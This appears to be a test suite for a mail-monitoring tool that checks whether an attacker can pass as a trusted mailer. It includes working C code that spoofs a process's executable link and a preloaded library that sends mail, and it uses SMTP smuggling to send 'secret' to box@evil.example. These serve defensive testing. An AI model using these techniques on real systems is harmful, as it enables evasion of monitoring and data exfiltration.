# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""An unprivileged attacker cannot use an exclusion for his own mail. Each way is tried against an exclusion for an honest
mailer, and gives an alert that names the criterion that failed. Where the attacker could fail only because he is
another user, the exclusion names his user as well, so that another criterion must hold.

test_scenarios.Cron tries the attacker's own crontab, because it runs a cron daemon. What an exclusion cannot know (a
library that the honest user preloads) is asserted too; smtpsnoop.yaml(5), LIMITS OF TRUST, describes it.
"""

import os
import pwd
import shutil
import subprocess
import unittest

import mta
from harness import LiveCase, Server, Watch, action, get, short, unique, wait_for
from test_scenarios import ATTACKER, as_user

HONEST = "news"

CONFIG = """
decision: {{ deadline: 2s }}
exclusions:
  - name: msmtp
    process: {{ user: [{users}], executable: /usr/bin/msmtp }}
    relay: "127.0.0.1:{port}"
    mail: {{ sender: s@corp.example, recipients: "*@corp.example" }}
  - name: python
    process: {{ user: news, executable: /usr/bin/python3* }}
    relay: "127.0.0.1:{port}"
    mail: {{ sender: s@corp.example, recipients: "*@corp.example", contains: honest }}
{more}"""

# Its own pages stay where they are, but no longer come from its file; then a child in a user namespace of its own, with
# the memory shared, gives that memory another exe link (prctl(2), PR_SET_MM_MAP). Then it mails.
SWAP = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static struct prctl_mm_map map;
static int failed;

static int child(void *unused)
{
	failed = prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0) != 0;
	_exit(0);
}

static void unmap_own_file(const char *self)
{
	struct { unsigned long start, end; int prot; } maps[32];
	char line[512], prot[8], path[256];
	int count = 0;
	FILE *file = fopen("/proc/self/maps", "r");

	while (fgets(line, sizeof(line), file) && count < 32) {
		unsigned long start, end;
		path[0] = 0;
		sscanf(line, "%lx-%lx %7s %*s %*s %*s %255s", &start, &end, prot, path);
		if (strcmp(path, self) != 0)
			continue;
		maps[count].start = start, maps[count].end = end;
		maps[count++].prot = (prot[0] == 'r') | (prot[1] == 'w') << 1 | (prot[2] == 'x') << 2;
	}
	fclose(file);
	for (int i = 0; i < count; i++) {
		size_t len = maps[i].end - maps[i].start;
		void *copy = mmap(0, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		memcpy(copy, (void *)maps[i].start, len);
		mprotect(copy, len, maps[i].prot);
		mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)maps[i].start);
	}
}

static void talk(int fd, const char *line)
{
	char reply[1024];
	if (*line && write(fd, line, strlen(line)) < 0)
		exit(3);
	if (read(fd, reply, sizeof(reply)) <= 0)
		exit(4);
}

int main(int argc, char **argv)
{
	unsigned long fields[64] = {0};
	char self[256] = "", stat[2048] = "", mail[256], *at;
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1])), .sin_addr.s_addr = htonl(0x7f000001)};
	int fd, field = 3, status;
	pid_t pid;

	if (readlink("/proc/self/exe", self, 255) < 0)
		return 1;
	fd = open("/proc/self/stat", O_RDONLY);
	if (read(fd, stat, 2047) < 0)
		return 1;
	for (at = strtok(strrchr(stat, ')') + 4, " "), field = 4; at; at = strtok(0, " "), field++)
		fields[field] = strtoul(at, 0, 10);
	map.start_code = fields[26], map.end_code = fields[27], map.start_stack = fields[28];
	map.start_data = fields[45], map.end_data = fields[46], map.start_brk = fields[47];
	map.brk = (unsigned long)sbrk(0);
	map.arg_start = fields[48], map.arg_end = fields[49], map.env_start = fields[50], map.env_end = fields[51];
	map.exe_fd = open("/usr/bin/msmtp", O_RDONLY);
	unmap_own_file(self);
	pid = clone(child, (char *)mmap(0, 65536, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) + 65536,
		    CLONE_VM | CLONE_FILES | CLONE_NEWUSER | SIGCHLD, 0);
	waitpid(pid, &status, __WALL);
	memset(self, 0, sizeof(self));
	if (failed || readlink("/proc/self/exe", self, 255) < 0 || strcmp(self, "/usr/bin/msmtp") != 0)
		return 77;
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (void *)&to, sizeof(to)))
		return 2;
	snprintf(mail, sizeof(mail), "RCPT TO:<%s>\r\n", argv[2]);
	talk(fd, ""), talk(fd, "HELO x\r\n"), talk(fd, "MAIL FROM:<s@corp.example>\r\n"), talk(fd, mail);
	talk(fd, "DATA\r\n"), talk(fd, "Subject: x\r\n\r\nx\r\n.\r\n"), talk(fd, "QUIT\r\n");
	return 0;
}
"""

# A library whose constructor sends a mail and ends the program before main().
PRELOAD = r"""
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void talk(int fd, const char *line)
{
	char reply[1024];
	if (*line && write(fd, line, strlen(line)) < 0)
		_exit(3);
	if (read(fd, reply, sizeof(reply)) <= 0)
		_exit(4);
}

__attribute__((constructor)) static void begin(void)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(getenv("PORT"))),
				 .sin_addr.s_addr = htonl(0x7f000001)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	char mail[256];

	if (connect(fd, (void *)&to, sizeof(to)))
		_exit(2);
	snprintf(mail, sizeof(mail), "RCPT TO:<%s>\r\n", getenv("TO"));
	talk(fd, ""), talk(fd, "HELO x\r\n"), talk(fd, "MAIL FROM:<s@corp.example>\r\n"), talk(fd, mail);
	talk(fd, "DATA\r\n"), talk(fd, "Subject: x\r\n\r\nx\r\n.\r\n"), talk(fd, "QUIT\r\n");
	_exit(0);
}
"""

# Processes of two users on one socket: the honest one begins the mail, the other ends it.
HANDED_OVER = """
import os, socket, sys
import client
port, recipient, honest, other = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
left, right = socket.socketpair()
if os.fork() == 0:
    os.setgid(honest)
    os.setuid(honest)
    session = client.Session(port)
    session.envelope("s@corp.example", [recipient])
    socket.send_fds(left, [b"x"], [session.sock.fileno()])
    os._exit(0)
os.wait()
os.setgid(other)
os.setuid(other)
_, fds, _, _ = socket.recv_fds(right, 10, 1)
session = client.Session(sock=socket.socket(fileno=fds[0]), greet=False)
session.data(b"Subject: x\\r\\n\\r\\nhonest, is it\\r\\n")
session.quit()
"""

RAW = """
import socket, sys, time
sock = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
sock.recv(1000)
for piece in sys.argv[2:]:
    if piece == "wait":
        sys.stdin.readline()
        continue
    sock.sendall(piece.encode().decode("unicode_escape").encode("latin-1"))
    time.sleep(0.2)
sock.settimeout(1)
try:
    while sock.recv(1000):
        pass
except OSError:
    pass
"""


class Rides(LiveCase):
    def setUp(self):
        super().setUp()
        self.server = Server(self)
        self.recipient = unique("ride").replace("example.net", "corp.example")

    def watch(self, users=HONEST, more="", prefix=(), port=None):
        text = CONFIG.format(port=port or self.server.port, users=users, more=more)
        return Watch(self, "--all", "-c", self.write("smtpsnoop.yaml", text), prefix=prefix)

    def compiled(self, name, source, *options):
        path = self.path(name)
        self.finish(self.spawn(["gcc", "-w", "-o", path, *options, self.write(f"{name}.c", source)]))
        os.chmod(path, 0o755)
        return path

    def msmtp(self, recipient, program="/usr/bin/msmtp"):
        path = self.write("mail.txt", "Subject: x\n\nx\n", 0o644)
        return ["sh", "-c", f"exec {program} --file=/dev/null --host=127.0.0.1 --port={self.server.port} "
                f"--from=s@corp.example {recipient} < {path}"]

    def raw(self, *pieces, user=HONEST, **keywords):
        script = self.write("raw.py", RAW)
        return self.spawn(as_user(user, ["/usr/bin/python3", "-I", script, str(self.server.port), *pieces]), cwd="/",
                          **keywords)

    def assert_alert(self, watch, *failed, name=None, recipient=None):
        event = watch.message(recipient or self.recipient)
        self.assertEqual(get(event, "smtpsnoop.verdict"), "alert", short(event))
        for criterion in failed:
            self.assertIn(criterion, get(event, "smtpsnoop.nearest.failed"), short(event))
        if name:
            self.assertEqual(get(event, "smtpsnoop.nearest.name"), name, short(event))
        return event

    def assert_excluded(self, watch, recipient=None):
        event = watch.message(recipient or self.recipient)
        self.assertEqual(get(event, "smtpsnoop.verdict"), "excluded", short(event))

    def test_the_honest_one(self):
        watch = self.watch()
        self.finish(self.spawn(as_user(HONEST, self.msmtp(self.recipient)), cwd="/"))
        self.assert_excluded(watch)
        watch.stop()

    def test_swapped_exe_link(self):
        watch = self.watch(f"{HONEST}, {ATTACKER}")
        program = self.compiled("swap", SWAP, "-static", "-no-pie")
        self.finish(self.spawn(as_user(ATTACKER, [program, str(self.server.port), self.recipient]), cwd="/"))
        event = self.assert_alert(watch, "process.executable", name="msmtp")
        self.assertEqual(get(event, "process.executable"), program)
        self.assertIn("executable_link_changed", get(event, "smtpsnoop.reasons"))
        watch.stop()

    def test_bind_mount_in_a_user_namespace(self):
        watch = self.watch(f"{HONEST}, {ATTACKER}")
        self.finish(self.spawn(as_user(ATTACKER, [
            "unshare", "-Urm", "sh", "-c", "mount --bind /usr/bin/curl /usr/bin/msmtp && printf 'Subject: x\\r\\n\\r\\nx' | "
            f"/usr/bin/msmtp -sS smtp://127.0.0.1:{self.server.port} --mail-from s@corp.example "
            f"--mail-rcpt {self.recipient} -T -"]), cwd="/"))
        self.assert_alert(watch, "process.container", name="msmtp")
        watch.stop()

    def test_preloaded_library(self):
        watch = self.watch()
        library = self.compiled("preload.so", PRELOAD, "-shared", "-fPIC")
        honest = unique("own").replace("example.net", "corp.example")
        for user, recipient in ((ATTACKER, self.recipient), (HONEST, honest)):
            self.finish(self.spawn(as_user(user, ["env", f"PORT={self.server.port}", f"TO={recipient}",
                                                  f"LD_PRELOAD={library}", "/usr/bin/msmtp"]), cwd="/"), status=None)
        self.assert_alert(watch, "process.user", name="msmtp")
        self.assert_excluded(watch, honest)  # a process that has become the honest user is the honest user
        watch.stop()

    def test_user_unit_of_the_same_name(self):
        base = next((one for one in ("/sys/fs/cgroup/unified", "/sys/fs/cgroup") if os.path.exists(one + "/cgroup.procs")))
        unit = f"ride-{os.getpid()}.service"
        own, of_user = f"{base}/system.slice/{unit}", f"{base}/user.slice/user-5.slice/user@5.service/app.slice/{unit}"
        made = []
        for path in (own, of_user):
            while not os.path.exists(path):
                made.append(path)
                path = os.path.dirname(path)
        for path in sorted(made):
            os.mkdir(path)
            self.addCleanup(lambda path=path: wait_for(lambda: not self.rmdir(path), 5, "the cgroup to be empty"))
        watch = self.watch(more=f"""
  - name: unit
    process: {{ unit: {unit} }}
    relay: "127.0.0.1:{self.server.port}"
""")
        honest = unique("own").replace("example.net", "corp.example")
        for path, recipient in ((of_user, self.recipient), (own, honest)):
            command = as_user(ATTACKER, self.msmtp(recipient))
            self.finish(self.spawn(["sh", "-c", 'echo 0 > "$1/cgroup.procs" && shift && exec "$@"', "sh", path, *command],
                                   cwd="/"))
        event = watch.message(self.recipient)
        self.assertEqual(get(event, "smtpsnoop.verdict"), "alert", short(event))
        self.assertIsNone(get(event, "systemd.unit"), short(event))
        event = watch.message(honest)
        self.assertEqual(get(event, "smtpsnoop.exclusion"), "unit", short(event))
        watch.stop()

    @staticmethod
    def rmdir(path):
        try:
            os.rmdir(path)
        except OSError:
            return True
        return False

    def test_setuid_mailer(self):
        mailer = self.path("mailer")
        shutil.copy("/usr/bin/msmtp", mailer)
        os.chown(mailer, pwd.getpwnam(HONEST).pw_uid, 0)
        os.chmod(mailer, 0o4755)
        watch = self.watch(more=f"""
  - name: setuid
    process: {{ user: {HONEST}, executable: {mailer} }}
    relay: "127.0.0.1:{self.server.port}"
""")
        self.finish(self.spawn(as_user(ATTACKER, self.msmtp(self.recipient, mailer)), cwd="/"))
        event = self.assert_alert(watch, "process.real_user", name="setuid")
        self.assertEqual(get(event, "user.name"), HONEST)
        watch.stop()

    def test_container_with_the_same_user_and_path(self):
        watch = self.watch()
        self.finish(self.spawn(["unshare", "-m", "-p", "-f", *as_user(HONEST, self.msmtp(self.recipient))], cwd="/"))
        event = self.assert_alert(watch, name="msmtp")
        self.assertEqual(get(event, "smtpsnoop.nearest.failed"), ["process.container"])
        watch.stop()

    def test_socket_handed_over_in_mid_transaction(self):
        watch = self.watch()
        self.run_program("handed.py", HANDED_OVER, self.server.port, self.recipient, pwd.getpwnam(HONEST).pw_uid,
                         pwd.getpwnam(ATTACKER).pw_uid)
        event = self.assert_alert(watch, "process.user", name="python")
        self.assertEqual(len(get(event, "smtpsnoop.senders")), 2)
        watch.stop()

    def test_second_mail_behind_the_body(self):
        watch = self.watch()
        second = unique("second")
        self.finish(self.raw("HELO x\\r\\n", f"MAIL FROM:<s@corp.example>\\r\\nRCPT TO:<{self.recipient}>\\r\\nDATA\\r\\n",
                             "Subject: x\\r\\n\\r\\nhonest\\r\\n.\\r\\nMAIL FROM:<s@corp.example>\\r\\n"
                             f"RCPT TO:<{second}>\\r\\nDATA\\r\\n", "x\\r\\n.\\r\\nQUIT\\r\\n"))
        self.assert_excluded(watch)
        self.assert_alert(watch, "mail.recipients", "mail.contains", recipient=second)
        watch.stop()

    def test_verbs_hidden_from_the_parser(self):
        # The server accepts LF as the end of a line: after its end of data a second mail begins.
        watch = self.watch()
        self.finish(self.raw("HELO x\\r\\n", f"MAIL FROM:<s@corp.example>\\r\\nRCPT TO:<{self.recipient}>\\r\\nDATA\\r\\n",
                             "Subject: x\\r\\n\\r\\nhonest\\n.\\nMAIL FROM:<s@corp.example>\\r\\nRCPT TO:<box@evil.example>\\r\\n"
                             "DATA\\r\\nsecret\\r\\n.\\r\\nQUIT\\r\\n"))
        self.assert_alert(watch, "capture")
        self.assertFalse(watch.messages(lambda event: get(event, "smtpsnoop.verdict") == "excluded"))
        watch.stop()

    def test_stalled_end_of_data(self):
        watch = self.watch()
        process = self.raw("HELO x\\r\\n", f"MAIL FROM:<s@corp.example>\\r\\nRCPT TO:<{self.recipient}>\\r\\nDATA\\r\\n",
                           "Subject: x\\r\\n\\r\\nhonest\\r\\n", "wait", ".\\r\\nQUIT\\r\\n", stdin=subprocess.PIPE)
        early = watch.wait(lambda event: self.recipient in get(event, "smtp.rcpt_to", []), 1, 10)[0]
        self.assertIs(get(early, "smtpsnoop.final"), False, short(early))
        self.assertEqual(get(early, "smtpsnoop.verdict"), "alert", short(early))
        self.assertEqual((action(early), get(early, "smtp.rcpt_to")), ("smtp-message", [self.recipient]))
        self.assertIn("transaction_open", get(early, "smtpsnoop.reasons"))
        process.stdin.write(b"\n")
        process.stdin.flush()
        event = watch.message(self.recipient)
        self.assertEqual(get(event, "event.id"), get(early, "event.id"))
        self.assertEqual(get(event, "smtpsnoop.verdict"), "excluded", short(event))
        self.finish(process)
        watch.stop()


class Sendmail(LiveCase):
    """The host's Postfix, in a mount namespace that the watch shares."""

    limit_s = mta.INSTALL_S

    def test_sendmail_f(self):
        relay = Server(self)
        type(self).postfix = mta.Postfix(type(self), relay.port)
        root = self.postfix.root
        root.write("/etc/smtpsnoop-test.yaml", f"""
exclusions:
  - name: through-postfix
    process: {{ user: postfix, executable: /usr/lib/postfix/sbin/smtp }}
    relay: "127.0.0.1:{relay.port}"
    mail: {{ sender: s@corp.example }}
    origin: {{ user: {HONEST} }}
""")
        watch = Watch(self, "--all", "-c", "/etc/smtpsnoop-test.yaml", prefix=root.prefix)
        recipients = {}
        for user in (HONEST, ATTACKER):
            recipients[user] = unique(user)
            root.run(*as_user(user, ["sh", "-c", "printf 'Subject: x\\n\\nx\\n' | /usr/sbin/sendmail -f s@corp.example "
                                     + recipients[user]]))
        event = watch.message(recipients[HONEST], 30)
        self.assertEqual(get(event, "smtpsnoop.exclusion"), "through-postfix", short(event))
        event = watch.message(recipients[ATTACKER], 30)
        self.assertEqual((get(event, "smtpsnoop.verdict"), get(event, "smtpsnoop.nearest.failed")), ("alert", ["origin.user"]),
                         short(event))
        self.assertEqual(get(event, "smtpsnoop.origin.user"), ATTACKER)
        watch.stop()


if __name__ == "__main__":
    unittest.main()
